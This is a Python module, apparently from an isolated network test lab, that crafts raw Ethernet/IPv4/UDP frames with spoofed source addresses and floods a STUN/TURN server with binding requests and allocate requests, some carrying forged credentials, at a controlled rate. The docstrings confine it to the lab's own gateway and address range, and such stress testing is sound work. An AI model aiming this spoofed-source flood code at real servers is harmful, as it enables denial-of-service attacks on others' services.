"""Frames with invented sources, sent from lg-web straight onto the wire: only towards the lab's own gateway."""
import ipaddress
import json
import socket
import struct
import subprocess
import time

import lab
import stun

_WORDS = {}


def checksum(data):
    if len(data) & 1:
        data += b"\0"
    words = _WORDS.setdefault(len(data), struct.Struct(f"!{len(data) // 2}H"))
    total = sum(words.unpack(data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def frame(ethernet, source, source_port, target, target_port, payload):
    """One Ethernet frame with IPv4 and UDP, all sums right; source and target as four bytes."""
    length = 8 + len(payload)
    udp = struct.pack("!HHHH", source_port, target_port, length, 0)
    udp_sum = checksum(source + target + struct.pack("!HH", 17, length) + udp + payload) or 0xFFFF
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, 17, 0) + source + target
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return ethernet + head + udp[:6] + struct.pack("!H", udp_sum) + payload


def hardware_address(where, interface):
    shown = subprocess.run(["ip", "-n", f"{lab.NAME}-{where}", "-j", "link", "show", interface], check=True, capture_output=True).stdout
    return bytes.fromhex(json.loads(shown)[0]["address"].replace(":", ""))


def invented_sources(count):
    """`count` different (address, port): 10.90.64.0 upwards, inside the lab's own 10.90.0.0/16, no host of which answers."""
    first = int(ipaddress.ip_address("10.90.64.0"))
    for n in range(count):
        yield struct.pack("!I", first + n % 40000), 1024 + n // 40000


class Flood:
    def __init__(self, target=lab.SERVER, port=3478):
        self.target, self.port = ipaddress.ip_address(target).packed, port
        self.ethernet = hardware_address("core", "lgw1") + hardware_address("web", "lgw0") + b"\x08\x00"
        with lab.inside("web"):
            self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.socket.bind(("lgw0", 0))

    def send(self, datagrams, per_second):
        """Sends (source, source port, payload)s at that pace at most; how many and how long it took."""
        start, sent = time.monotonic(), 0
        for source, port, payload in datagrams:
            self.socket.send(frame(self.ethernet, source, port, self.target, self.port, payload))
            sent += 1
            if sent % 50 == 0:
                ahead = start + sent / per_second - time.monotonic()
                if ahead > 0:
                    time.sleep(ahead)
        return sent, time.monotonic() - start

    def close(self):
        self.socket.close()


def binding_requests(count):
    request = stun.header(stun.BINDING, 0, b"floodfloodfl")
    for source, port in invented_sources(count):
        yield source, port, request


def allocate_requests(count):
    """Allocates from `count` sources: every second one without credentials, the others with invented ones."""
    bare = stun.with_length(stun.header(3, 0, b"floodfloodfl") + stun.transport())
    forged = stun.with_length(stun.header(3, 0, b"floodfloodfl") + stun.transport() + stun.attribute("USERNAME", b"lab")
                              + stun.attribute("REALM", b"lab.example") + stun.attribute("NONCE", b"0123456789abcdef"))
    forged = stun.add_integrity(forged, b"no key at all")
    for n, (source, port) in enumerate(invented_sources(count)):
        yield source, port, forged if n & 1 else bare
